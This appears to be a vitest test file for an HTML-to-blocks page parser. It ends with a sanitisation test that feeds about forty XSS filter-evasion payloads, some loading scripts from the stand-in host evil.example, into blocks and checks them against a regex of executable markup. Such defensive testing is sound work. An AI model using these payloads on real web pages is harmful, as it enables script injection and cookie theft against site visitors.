import { describe, expect, test } from 'vitest'
import { headingsOf, readPageBody } from './page-body.ts'
import { everyPart, type Part } from './parts.ts'

const portrait = { url: '/files/a/portrait.png', width: 40, height: 50, alt: 'A portrait' }
const read = (html: string) => readPageBody(html, { imageOf: named => (named === '7' || named === portrait.url ? portrait : null) })
const only = (html: string): Part | undefined => read(html).parts[0]
const text = (html: string) => ({ kind: 'html', html })

describe('page blocks in HTML', () => {
  test.each<[string, string, object | undefined]>([
    [
      'hero banner',
      '<div data-block="hero-banner" data-title="Slates">All of them</div>',
      { kind: 'hero-banner', title: 'Slates', text: 'All of them' },
    ],
    [
      'members',
      '<div data-block="member-list" data-mode="FEATURED" data-subject-id="3" data-filter="yes"></div>',
      { mode: 'featured', subjectId: 3, filter: true, title: null },
    ],
    [
      'members in a mode that is none',
      '<div data-block="member-list" data-mode="tiny" data-filter="false"></div>',
      { mode: 'default', subjectId: null, filter: false },
    ],
    [
      'members whose title is suppressed',
      '<div data-block="member-list" data-title="Board" data-suppress-title="true"></div>',
      { title: null },
    ],
    [
      'process',
      '<div data-block="publishing-process" data-type="articlesWithPreScreening" data-show-asterisk-on-preprint="true"></div>',
      { type: 'articlesWithPreScreening', suppressTitle: false, showAsteriskOnPreprint: true },
    ],
    ['process of another type', '<div data-block="publishing-process" data-type="books"></div>', undefined],
    [
      'quotation',
      '<blockquote data-block="customer-quote" data-name="Ada" data-image-id="7" data-display-mode="simple"><p>Slate.</p></blockquote>',
      { name: 'Ada', mode: 'simple', html: '<p>Slate.</p>', picture: portrait, jobTitle: null },
    ],
    [
      'quotation in a mode that is none',
      '<blockquote data-block="customer-quote" data-name="Ada" data-display-mode="loud">Slate.</blockquote>',
      { mode: 'standard', picture: null },
    ],
    ['quotation without a name', '<blockquote data-block="customer-quote"><p>Slate.</p></blockquote>', undefined],
    ['quotation without words', '<blockquote data-block="customer-quote" data-name="Ada"> </blockquote>', undefined],
    [
      'benefits',
      '<div data-block="icon-benefits"><section data-icon="icon-openscience"><h3>Open</h3><p>To all.</p></section></div>',
      { suppressTitles: false, items: [{ icon: 'icon-openscience', title: 'Open', html: '<p>To all.</p>' }] },
    ],
    ['columns', '<div data-block="columns"><div>One</div><div><p>Two</p></div></div>', { columns: [[text('One')], [text('<p>Two</p>')]] }],
    [
      'picture',
      '<figure data-block="image" data-media-id="7" data-is-hero="false" data-full-coverage="1" data-min-height="450" data-vertical-position="top" data-spacing-units="4">Words</figure>',
      {
        picture: portrait,
        caption: 'Words',
        isHero: false,
        fullCoverage: true,
        minHeight: 400,
        horizontal: 'center',
        vertical: 'top',
        spacing: 4,
      },
    ],
    [
      'picture as it stands in the page',
      '<figure data-block="image"><img src="/files/a/portrait.png" alt="Ada"></figure>',
      { picture: { ...portrait, alt: 'Ada' }, caption: null, minHeight: 0, spacing: 0 },
    ],
    ['picture that is not there', '<figure data-block="image" data-media-id="8"><p>Words</p></figure>', text('<p>Words</p>')],
    [
      'chart',
      '<div data-block="chart" data-type="pie" data-title="Costs"><table><tr><th>Part</th><th>US$</th><th>Share</th></tr><tr><td>Review</td><td>US$ 1,420.5</td><td>3</td></tr><tr><td>None</td><td>–</td></tr></table></div>',
      { type: 'pie', title: 'Costs', label: 'Part', labels: ['Review', 'None'], series: [{ name: 'US$', values: [1420.5, null] }] },
    ],
    ['chart without a title', '<div data-block="chart" data-type="pie"><p>Numbers</p></div>', text('<p>Numbers</p>')],
    [
      'tabs',
      '<div data-block="tabs"><section data-title="First one">A</section><section id="b" data-title="B"><h3>b</h3></section></div>',
      {
        label: null,
        items: [
          { id: 'first-one', title: 'First one', parts: [text('A')] },
          { id: 'b', title: 'B', parts: [text('<h3>b</h3>')] },
        ],
      },
    ],
    ['anchor', '<h2 data-block="anchor" id="fees">What it <i>costs</i></h2>', { id: 'fees', text: 'What it costs' }],
    [
      'accordions',
      '<div data-block="accordions" data-expand-all="no"><details open><summary>Why?</summary><p>So.</p></details></div>',
      { expandAll: false, items: [{ id: 'why', title: 'Why?', open: true, parts: [text('<p>So.</p>')] }] },
    ],
    ['subject areas', '<div data-block="subject-areas" data-title="Fields"></div>', { kind: 'subject-areas', title: 'Fields' }],
    ['recent articles', '<div data-block="recent-articles"></div>', { kind: 'recent-articles', title: null }],
    [
      'statistics of the page',
      '<div data-block="statistics" data-last-updated="2026-01-05"><dl><dt>Articles</dt><dd>1,200</dd><dt>Bees</dt><dd>many</dd></dl></div>',
      { own: { stats: [{ label: 'Articles', count: 1200 }], lastUpdated: '2026-01-05' } },
    ],
    ['statistics of the platform', '<div data-block="statistics"></div>', { own: null }],
    ['cookies', '<div data-block="cookie-policy"></div>', { kind: 'cookie-policy' }],
    ['call to action', '<div data-block="submit-call-to-action"><h2>Write</h2><p>Now.</p></div>', { title: 'Write', html: '<p>Now.</p>' }],
    [
      'rows',
      '<div data-block="info-rows"><section data-media-id="7"><h3>ISSN</h3>1234</section></div>',
      { rows: [{ title: 'ISSN', picture: portrait, parts: [text('1234')] }] },
    ],
    [
      'logos',
      '<div data-block="logo-bar"><a href="https://example.org/"><img data-media-id="7" alt="Slate Trust"></a><a href="javascript:alert(1)"><img data-media-id="7" alt="Tile"></a><img data-media-id="9" alt="None"></div>',
      {
        logos: [
          { name: 'Slate Trust', href: 'https://example.org/' },
          { name: 'Tile', href: null },
        ],
      },
    ],
    ['table', '<table data-block="table"><caption>Charges</caption><tr><td>1</td></tr></table>', { caption: 'Charges', shaded: true }],
    [
      'table without shades',
      '<div data-block="table" id="my-no-row-shading-1"><table><caption>Charges</caption><tr><td>1</td></tr></table></div>',
      { shaded: false },
    ],
    ['card', '<div data-block="publish-your-research"></div>', { kind: 'publish-your-research' }],
  ])(
    'the block is read: %s (A2-89, A2-90, A2-91, A2-92, A2-94, A2-97, A2-98, A2-106, A2-107, A2-108, A3-50, A3-52, A3-53)',
    (_, html, expected) => {
      if (expected === undefined) expect(only(html)).toBeUndefined()
      else expect(only(html)).toMatchObject(expected)
    },
  )

  test('blocks are found between texts, and inside elements that are dissolved around them (A2-83)', () => {
    const { parts } = read('<p>Before</p><section><p>A</p><div data-block="cookie-policy"></div></section><p>After</p>')
    expect(parts).toEqual([text('<p>Before</p>'), text('<p>A</p>'), { kind: 'cookie-policy' }, text('<p>After</p>')])
  })

  test('blocks are found inside each other', () => {
    const { parts } = read(
      '<div data-block="columns"><div><div data-block="accordions"><details><summary>S</summary><div data-block="statistics"></div></details></div></div></div>',
    )
    expect([...everyPart(parts)].map(({ kind }) => kind)).toEqual(['columns', 'accordions', 'statistics'])
  })

  test('an unknown block keeps its text, with one warning', () => {
    const { parts, warnings } = read('<div data-block="carousel"><p>One</p></div><div data-block="carousel"><p>Two</p></div>')
    expect(parts).toEqual([text('<p>One</p>'), text('<p>Two</p>')])
    expect(warnings).toEqual(['There is no block “carousel”: what is in it is shown as text.'])
  })

  test('no id occurs twice', () => {
    const section = '<div data-block="accordions"><details id="x"><summary>S</summary></details></div>'
    expect(
      [...everyPart(read(section + section).parts)].flatMap(part => (part.kind === 'accordions' ? part.items.map(({ id }) => id) : [])),
    ).toEqual(['x', 'x-2'])
  })
})

test('elements nested too deeply are read as text (A8-37)', () => {
  const { parts, warnings } = read(`${'<div>'.repeat(20_000)}<p data-block="table">deep</p>`)
  expect(parts.map(({ kind }) => kind)).toEqual(['html'])
  expect(warnings.join()).toContain('more than 200 deep')
})

test('the menu of a page lists its second-level headings with ids', () => {
  const { parts } = read('<h2 id="a">First <b>one</b></h2><h3 id="c">No</h3><h2>None</h2><h2 data-block="anchor" id="b">Second</h2>')
  expect(headingsOf(parts)).toEqual([
    { refId: 'a', text: 'First one' },
    { refId: 'b', text: 'Second' },
  ])
})

/** Based on OWASP's filter-evasion cheat sheet, with additions for blocks: each in running text and in the attributes of a block. */
const hostile = [
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, XSS")`>',
  '<a onmouseover="alert(document.cookie)">xss</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1);">x</a>',
  '<a href="jav&#x0A;ascript:alert(1);">x</a>',
  '<a href=" &#14;  javascript:alert(1);">x</a>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<details ontoggle="alert(1)" open><summary>x</summary></details>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
]
const inBlocks: readonly ((attack: string) => string)[] = [
  attack => attack,
  attack => `<p>Text</p>${attack}`,
  attack => `<div data-block="accordions"><details><summary>${attack}</summary>${attack}</details></div>`,
  attack => `<div data-block="columns"><div>${attack}</div></div>`,
  attack => `<blockquote data-block="customer-quote" data-name="Ada">x ${attack}</blockquote>`,
  attack => `<table data-block="table"><caption>T ${attack}</caption><tr><td>${attack}</td></tr></table>`,
  attack => `<div data-block="unknown">${attack}</div>`,
]
/** Matches whatever could run in a page: active elements, handlers, styles, and URLs that run code. */
const acts =
  /<(?!\/?(?:h[2-5]|p|ul|ol|li|dl|dt|dd|blockquote|pre|hr|figure|figcaption|section|div|table|caption|thead|tbody|tfoot|tr|th|td|details|summary|address|a|abbr|b|bdi|br|cite|code|dfn|em|i|kbd|mark|q|s|small|span|strong|sub|sup|time|var|wbr)[\s>/])|<[^>]*\s(?:on\w+|style|srcdoc|formaction)\s*=|<[^>]*(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data):/i

test.each(hostile)('the attack %s runs nowhere', attack => {
  for (const put of inBlocks) {
    const htmls = JSON.stringify(read(put(attack)).parts, (key, value: unknown) => (key === 'html' ? [value] : value))
    for (const [, html = ''] of htmls.matchAll(/\["((?:[^"\\]|\\.)*)"\]/g)) expect(JSON.parse(`"${html}"`)).not.toMatch(acts)
  }
})

test.each([
  '<div>',
  '<ul><li>',
  '<p><a><b></p>',
  '<table data-block="table"><tr><td>',
  '<div data-block="columns"><div>',
  '<div data-block="accordions"><details><summary>a</summary>',
])('text in 3,000 levels of %s is read, and so is the text before it (A8-37)', open => {
  const parts = JSON.stringify(read(`<p>Before.</p>${open.repeat(3000)}deep`).parts)
  expect(parts).toContain('Before.')
  expect(parts).toContain('deep')
})
